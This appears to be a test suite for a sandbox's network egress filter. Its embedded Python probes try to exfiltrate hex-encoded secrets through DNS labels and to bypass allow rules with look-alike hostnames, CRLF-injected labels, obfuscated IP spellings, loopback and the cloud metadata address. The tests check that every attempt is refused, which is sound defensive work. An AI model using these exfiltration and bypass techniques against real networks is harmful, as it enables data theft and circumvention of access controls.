import { writeFile } from "node:fs/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Arrival, denialsOf, type EgressLab, openEgressLab, PLACES, reasonsOf } from "../lab/egress-lab.ts";
import { TEST_IMAGES } from "../lab/images.ts";
import { tempDirectory } from "../lab/temp-directory.ts";
import { inTerminal } from "../lab/terminal.ts";

let lab: EgressLab;
beforeAll(async () => {
  lab = await openEgressLab();
});
afterAll(() => lab[Symbol.asyncDispose]());

const FLAGS = ["--allow", "origin.test:7,origin.test:80,*.wild.test:80"];
const queries = (arrivals: readonly Arrival[]): readonly string[] =>
  arrivals.flatMap(({ kind, name = "" }) => (kind === "query" ? [name] : []));

/** Asks the name server of the machine by itself, label by label, so that names can be wrong in any way; gives the RCODE or "silence". */
const ASK = `
import json, socket, struct
def ask(labels, type=1):
    wire = b"".join(bytes([len(label)]) + label.encode("latin1") for label in labels) + b"\\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(5)
        connection.sendto(struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", type, 1), ("127.0.0.1", 53))
        try:
            return connection.recv(4096)[3] & 15
        except TimeoutError:
            return "silence"
`;

describe("data in the labels of names that are denied", () => {
  const SECRETS = Array.from({ length: 100 }, (_, at) => Buffer.from(`secret ${at}`).toString("hex"));
  const STOLEN = SECRETS.flatMap((label) => [`${label}.denied.test`, `${label}.origin.test`, `${label}.x.wild.test`]);
  const TYPES = { NS: 2, CNAME: 5, NULL: 10, MX: 15, TXT: 16, SRV: 33, ANY: 255 };
  const program = `${ASK}
names = ${JSON.stringify(STOLEN)}
answers = [ask(name.split(".")) for name in names]
answers += [ask((str(type) + ".typed.denied.test").split("."), type) for type in ${JSON.stringify(Object.values(TYPES))}]
try:
    socket.getaddrinfo("resolved.denied.test", 80)
    answers.append(0)
except socket.gaierror:
    answers.append(3)
print(json.dumps({str(answer): answers.count(answer) for answer in set(answers)}))`;
  const asked = [...STOLEN, ...Object.values(TYPES).map((type) => `${type}.typed.denied.test`), "resolved.denied.test"];

  it("reach a name server outside without a sandbox", async () => {
    await lab.setNames({});
    const { arrivals } = await lab.outside(program);
    expect([...new Set(queries(arrivals))].toSorted()).toEqual(asked.toSorted());
  });

  it("reach none from a sandbox: no such name exists, and nothing is looked up", async () => {
    await lab.setNames({});
    const { said, arrivals, result } = await lab.inside(program, FLAGS);
    expect(said).toEqual({ 3: asked.length });
    expect(arrivals).toEqual([]);
    expect(denialsOf(result)).toEqual(asked.map((name) => `${name}:- no rule allows it`).toSorted());
    expect(result.egress.map(({ connections }) => connections)).toEqual(asked.map(() => 1));
  });

  it("reach none under an allowed pattern either until something connects, and then once for the connection", async () => {
    await lab.setNames({ "called.wild.test": [[PLACES.public]] });
    const wild = `${ASK}
answers = [ask([label, "wild", "test"]) for label in ${JSON.stringify(SECRETS)}]
socket.create_connection(("called.wild.test", 80), 5).sendall(b"GET / HTTP/1.1\\r\\nHost: called.wild.test\\r\\nConnection: close\\r\\n\\r\\n")
print(json.dumps(answers))`;
    const { said, arrivals } = await lab.inside(wild, FLAGS);
    expect(said).toEqual(SECRETS.map(() => 0));
    expect([...new Set(queries(arrivals))].filter((name) => name !== "called.wild.test")).toEqual([]);
  });
});

describe("a name that is none", () => {
  /** Labels as they stand on the wire; what of them is dangerous is that some reader takes them for origin.test, or for more than one name. */
  const ODD: readonly (readonly string[])[] = [
    ...["\0", "\r", "\n", "\t", " ", "@", "#", "/", "\\", ":", "%00", "%2e", "\u007f", "*", "_", "\u00e9", "\u00a0"].flatMap((odd) => [
      ["origin", `test${odd}`],
      [`${odd}origin`, "test"],
      [`ori${odd}gin`, "test"],
    ]),
    ["origin.test"],
    ["origin", "test.evil", "test"],
    ["user@origin", "test"],
    ["evil.test\r\nHost: origin", "test"],
    ["origin\u00e3\u0080\u0082test"],
    ["xn--a", "test"],
    ["xn--0000h", "test"],
    ["xn--", "test"],
    ["-origin", "test"],
    ["origin-", "test"],
    ["a".repeat(64), "test"],
    ["a".repeat(200), "test"],
    Array<string>(127).fill("a").concat("test"),
    Array<string>(5).fill("b".repeat(60)).concat("test"),
    ["93", "184", "216", "34"],
    ["1572395042"],
    ["0x5db8d822"],
    ["0135", "0270", "0330", "042"],
    ["127", "1"],
    ["::ffff:93", "184", "216", "34"],
    ["[::1]"],
    ["fe80::1%eth0"],
    ["\u00ef\u00bc\u0099\u00ef\u00bc\u0093", "184", "216", "34"],
  ];
  const program = `${ASK}
print(json.dumps([ask(labels) for labels in ${JSON.stringify(ODD)}]))`;

  it("is asked for outside without a sandbox", async () => {
    await lab.setNames({ "origin.test": [[PLACES.public]] });
    const { said, arrivals } = await lab.outside(program);
    expect(queries(arrivals)).toEqual(ODD.map((labels) => labels.join(".").toLowerCase()));
    expect(said).toContain(0);
  });

  it("does not exist in a sandbox, whatever it is made of, and is never looked up", async () => {
    await lab.setNames({ "origin.test": [[PLACES.public]] });
    const { said, arrivals, result, stdout } = await lab.inside(program, FLAGS);
    const isTooLong = (labels: readonly string[]): boolean => labels.some(({ length }) => length > 63) || labels.join(".").length > 253;
    expect(said).toEqual(ODD.map((labels) => (isTooLong(labels) ? 1 : 3)));
    expect(arrivals).toEqual([]);
    expect(new Set(result.egress.map(({ decision, why }) => `${decision}: ${why ?? ""}`))).toEqual(
      new Set(["denied: it is not the name of a host"]),
    );
    // What the task chose is shown to people: nothing of it may act.
    const shown = result.egress.map(({ host }) => host);
    expect(shown.filter((host) => /[^\x21-\x7e]/.test(host))).toEqual([]);
    expect(stdout).not.toContain("evil.test\\r");
  });
});

describe("a name that looks like an allowed one", () => {
  const LOOK_ALIKES = [
    ...["origin.test.evil.test", "notorigin.test", "xorigin.test", "origin.test-evil.test", "origin-test.evil.test", "origintest"],
    ...["www.origin.test", "origin.test.origin.test", "origin.tes", "rigin.test", "0rigin.test", "xn--rigin-jye.test"],
    ...["wild.test", "a.b.wild.test", "xwild.test", "wild.test.evil.test"],
  ];
  /** The resolver of the C library, which programs use. */
  const program = (names: readonly string[]): string => `
import json, socket
def reach(name):
    try:
        with socket.create_connection((name.encode(), 7), 5) as connection:
            connection.sendall(b"echo")
            return connection.recv(4).decode()
    except OSError as error:
        return type(error).__name__
print(json.dumps([reach(name) for name in ${JSON.stringify(names)}]))`;
  const table = Object.fromEntries([...LOOK_ALIKES, "origin.test"].map((name) => [name, [[PLACES.other]]]));

  it("leads somewhere without a sandbox, and nowhere in one", async () => {
    await lab.setNames(table);
    expect((await lab.outside(program(LOOK_ALIKES))).said).toEqual(LOOK_ALIKES.map(() => "echo"));
    await lab.setNames(table);
    const { said, arrivals, events } = await lab.inside(program(LOOK_ALIKES), FLAGS);
    expect(said).toEqual(LOOK_ALIKES.map(() => "gaierror"));
    expect(arrivals).toEqual([]);
    expect(reasonsOf(events)).toEqual(LOOK_ALIKES.map((name) => `${name}: no rule allows it`).toSorted());
  });

  it("is the allowed one in capital letters and with the dot of the root, and then it is looked up by its plain name", async () => {
    await lab.setNames(table);
    const same = ["origin.test", "ORIGIN.TEST", "OrIgIn.tEsT", "origin.test.", "ORIGIN.TEST."];
    const { said, arrivals } = await lab.inside(program(same), FLAGS);
    expect(said).toEqual(same.map(() => "echo"));
    expect(new Set(queries(arrivals))).toEqual(new Set(["origin.test"]));
  });
});

describe("an address in place of a name", () => {
  const SPELLINGS = [
    ...["93.184.216.34", "1572395042", "0x5db8d822", "0135.0270.0330.042", "0x5d.0xb8.0xd8.0x22", "93.184.55330", "93.12113954"],
    ...["::ffff:93.184.216.34", "::ffff:5db8:d822", PLACES.nat64, PLACES.sixToFour, `${PLACES.public6}%lo`, "\uff19\uff13.184.216.34"],
    ...["169.254.169.254", "2852039166", "0xa9fea9fe", "fd00:ec2::254"],
  ];
  const OWN = ["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "0.0.0.0", "::1", "::ffff:127.0.0.1", "::"];
  /** By the C library, and in URLs, whose readers know spellings of their own. */
  const program = `
import json, socket, subprocess
def connect(place):
    try:
        socket.create_connection((place, 80), 5).close()
        return "open"
    except OSError as error:
        return type(error).__name__
def curl(place):
    url = "http://" + ("[%s]" % place.replace("%", "%25") if ":" in place else place) + "/"
    status = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5", url], capture_output=True).stdout
    return "open" if status == b"200" else "shut"
print(json.dumps({place: [connect(place), curl(place)] for place in ${JSON.stringify([...SPELLINGS, ...OWN])}}))`;
  type Reached = Readonly<Record<string, readonly [library: string, url: string]>>;

  it("leads there in every spelling without a sandbox", async () => {
    await lab.setNames({});
    const reached = (await lab.outside(program)).said as Reached;
    expect(Object.entries(reached).filter(([, ways]) => !ways.includes("open"))).toEqual([]);
  });

  it("leads nowhere from a sandbox, in no spelling, and its own loopback has no port 80", async () => {
    await lab.setNames({});
    const { said, arrivals } = await lab.inside(program, FLAGS);
    const reached = said as Reached;
    expect(Object.keys(reached)).toHaveLength(SPELLINGS.length + OWN.length);
    expect(Object.entries(reached).filter(([, ways]) => ways.includes("open"))).toEqual([]);
    expect(new Set(OWN.map((place) => reached[place]?.[0]))).toEqual(new Set(["ConnectionRefusedError"]));
    expect(arrivals).toEqual([]);
  });
});

describe("an allowed name whose port a program inside has taken", () => {
  it("is answered with a server failure, and the reason says what happened", async () => {
    await lab.setNames({ "origin.test": [[PLACES.public]] });
    const program = `${ASK}
taken = socket.create_server(("0.0.0.0", 80))
print(json.dumps(ask(["origin", "test"])))`;
    const { said, arrivals, result } = await lab.inside(program, FLAGS);
    expect(said).toBe(2);
    expect(arrivals).toEqual([]);
    expect(denialsOf(result)).toEqual(["origin.test:80 a program inside listens on port 80 itself (EADDRINUSE)"]);
  });
});

describe("an origin that breaks off in the middle of its answer", () => {
  /** Over HTTP, where the reset comes together with the bytes before it, and after them; and over a protocol that nobody knows. */
  const program = `
import json, socket
def end_of(port, first, more):
    with socket.create_connection(("origin.test", port), 10) as connection:
        connection.sendall(first)
        try:
            heard = b""
            while not heard.endswith(b"half of it"):
                piece = connection.recv(4096)
                if piece == b"":
                    return "end"
                heard += piece
            connection.sendall(more)
            return "end" if connection.recv(4096) == b"" else "more"
        except ConnectionResetError:
            return "reset"
def request(method, length):
    return b"%s /resets HTTP/1.1\\r\\nHost: origin.test\\r\\nContent-Length: %d\\r\\n\\r\\n" % (method, length)
print(json.dumps([end_of(80, request(b"GET", 0), b""), end_of(80, request(b"POST", 9) + b"some", b"more"), end_of(6000, b"some", b"more")]))`;
  const RESET = ["reset", "reset", "reset"];

  it("is seen to break off and not to end, as without a sandbox, and the result says so", async () => {
    await lab.setNames({ "origin.test": [[PLACES.public]] });
    expect((await lab.outside(program)).said).toEqual(RESET);
    await lab.setNames({ "origin.test": [[PLACES.public]] });
    const { said, result } = await lab.inside(program, ["--allow", "origin.test:80,origin.test:6000"]);
    expect(said).toEqual(RESET);
    expect(result.egress.map(({ port, decision, why }) => ({ port, decision, why }))).toEqual(
      [80, 6000].map((port) => ({ port, decision: "allowed", why: "it broke a connection off" })),
    );
  });
});

describe("the end of a run on standard error", () => {
  const ATTEMPTS = `
import socket
for place in [("denied.test", 7), ("denied.test", 7), ("private.test", 7), ("loopback.test", 7), ("metadata.test", 7), ("us_er.test", 80)]:
    try:
        connection = socket.create_connection(place, 5)
        connection.sendall(b"echo")
        connection.recv(1)
    except OSError:
        pass`;
  const NAMES = {
    "private.test": [[PLACES.private]],
    "loopback.test": [["127.0.0.1"]],
    "metadata.test": [[PLACES.metadata]],
  };
  const REFUSED = [
    "sandbox: 6 attempts to get out were refused: denied.test (no rule allows it)",
    `private.test:7 (its address ${PLACES.private} is private)`,
    "loopback.test:7 (its address 127.0.0.1 is loopback)",
    `metadata.test:7 (its address ${PLACES.metadata} is metadata)`,
    "us_er.test (it is not the name of a host)\n",
  ].join(", ");
  const run = (flags: readonly string[]) => ["run", "--image", TEST_IMAGES.debian, ...flags, "--", "python3", "-c", ATTEMPTS];

  it("says what was refused and which flags allow it, but for what should stay refused", async () => {
    await lab.setNames(NAMES);
    const cli = lab.start(run(["--allow", "private.test:7,loopback.test:7,metadata.test:7"]));
    cli.child.stdin.end();
    const { status, stdout, stderr } = await cli.done;
    expect({ status, stdout }).toEqual({ status: 0, stdout: "" });
    expect(stderr).toBe(`${REFUSED}  Allow with: --allow denied.test --allow-private --allow loopback.test=127.0.0.1:7\n`);

    await lab.setNames(NAMES);
    const again = lab.start(
      run([
        "--allow",
        "private.test:7,metadata.test:7",
        "--allow",
        "denied.test:7",
        "--allow-private",
        "--allow",
        "loopback.test=127.0.0.1:7",
      ]),
    );
    again.child.stdin.end();
    const { stderr: less } = await again.done;
    expect(less).toContain("sandbox: 2 attempts to get out were refused: metadata.test:7");
    expect(less).not.toContain("Allow");
  });

  it("names rules in place of flags where the rules come from a file, which no flag can widen", async () => {
    await using place = await tempDirectory();
    const rules = Object.keys(NAMES).map((host) => `  - { host: ${host}, port: 7 }\n`);
    await writeFile(place.join("task.yaml"), `version: 1\negress:\n${rules.join("")}`);
    await lab.setNames(NAMES);
    const cli = lab.start(run(["-f", place.join("task.yaml")]));
    cli.child.stdin.end();
    const { stderr } = await cli.done;
    const wanted = [
      "{ host: denied.test }",
      "{ host: private.test, port: 7, private: true }",
      '{ host: loopback.test, port: 7, address: "127.0.0.1" }',
    ];
    expect(stderr).toBe(`${REFUSED}  Allow in ${place.join("task.yaml")} with: ${wanted.join(", ")}\n`);
  });

  it("says it on a terminal too, on lines of their own, also when the command has the terminal", async () => {
    for (const flags of [[], ["-t"]]) {
      const { shown } = await inTerminal([...flags, "--", "nslookup", "denied.test"]);
      const lines = shown.split("\r\n").map((line) => line.replace(/^.*\r/, ""));
      expect(lines).toContainEqual(
        expect.stringMatching(/^sandbox: \d attempts? to get out (?:was|were) refused: denied\.test \(no rule allows it\)$/),
      );
      expect(lines).toContain("  Allow with: --allow denied.test");
    }
  });
});
